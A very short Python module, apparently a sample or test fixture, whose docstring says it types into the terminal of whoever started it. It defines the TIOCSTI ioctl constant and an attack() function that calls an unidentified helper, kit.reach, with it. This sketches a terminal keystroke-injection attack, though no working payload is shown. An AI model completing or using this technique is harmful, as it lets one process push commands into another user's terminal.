"""Types into the terminal of whoever started it."""

import kit

TIOCSTI = 0x5412


def attack():
    return kit.reach(16, 0, TIOCSTI, 0)
